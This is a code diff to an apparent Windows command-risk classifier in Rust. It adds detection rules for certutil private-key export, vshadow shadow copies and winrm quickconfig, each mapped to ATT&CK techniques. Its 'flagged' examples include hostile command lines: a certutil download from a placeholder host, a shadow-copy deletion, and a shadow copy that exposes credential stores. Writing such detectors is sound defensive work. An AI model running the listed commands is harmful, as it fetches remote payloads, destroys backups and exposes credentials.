@@ -78,12 +78,13 @@ pub const WINDOWS: &[Program] = &[
     },
     Program {
         names: &["certutil"],
-        source: "https://learn.microsoft.com/windows-server/administration/windows-commands/certutil (-urlcache, -verifyctl and -URL fetch a URL; -addstore adds a certificate to a store); ATT&CK T1105, T1553.004",
+        source: "https://learn.microsoft.com/windows-server/administration/windows-commands/certutil (-urlcache, -verifyctl and -URL fetch a URL; -addstore adds a certificate to a store; -exportPFX writes a certificate and its private key to a file); ATT&CK T1105, T1553.004, T1552.004",
         subs: &[
             Sub { words: &["-urlcache"], harm: Evasion, level: Medium, reason: "downloads a file through certutil" },
             Sub { words: &["-verifyctl"], harm: Evasion, level: Medium, reason: "downloads a file through certutil" },
             Sub { words: &["-url"], harm: Evasion, level: Medium, reason: "downloads a file through certutil" },
             Sub { words: &["-addstore|-importpfx|-installcert"], harm: SelfEscalation, level: Medium, reason: "adds a certificate to a Windows trust store" },
+            Sub { words: &["-exportpfx"], harm: Credential, level: High, reason: "exports a certificate with its private key" },
         ],
         flagged: &["certutil.exe -urlcache -split -f http://x.example/a.exe a.exe", "certutil -addstore root ca.cer"],
         clean: &["certutil -decode enc.txt out.bin", "certutil -hashfile setup.exe SHA256"],
@@ -509,6 +510,22 @@ pub const WINDOWS: &[Program] = &[
         ],
         flagged: &["vssadmin delete shadows /all /quiet", "vssadmin create shadow /for=C:"],
         clean: &["vssadmin list shadows"],
+        ..W
+    },
+    Program {
+        names: &["vshadow"],
+        source: "https://learn.microsoft.com/windows/win32/vss/vshadow-tool-and-sample (the SDK's shadow copy tool: -p makes a persistent shadow copy, -nw without writers; -q lists them); ATT&CK T1003.003; 0xsyr0/OSCP (session 41)",
+        subs: &[Sub { words: &["-p"], harm: Credential, level: Medium, reason: "creates a shadow copy (it exposes locked credential stores such as ntds.dit and the SAM hive)" }],
+        flagged: &["vshadow.exe -nw -p C:"],
+        clean: &["vshadow -q"],
+        ..W
+    },
+    Program {
+        names: &["winrm"],
+        source: "https://learn.microsoft.com/windows/win32/winrm/installation-and-configuration-for-windows-remote-management (quickconfig starts a WinRM listener and opens the firewall for it; get and enumerate only read); ATT&CK T1021.006; 0xsyr0/OSCP (session 41)",
+        subs: &[Sub { words: &["quickconfig|qc"], harm: SelfEscalation, level: Medium, reason: "turns on remote management (a WinRM listener and its firewall rule)" }],
+        flagged: &["winrm quickconfig", "winrm qc -q"],
+        clean: &["winrm get winrm/config", "winrm enumerate winrm/config/listener"],
         ..W
     },
     Program {
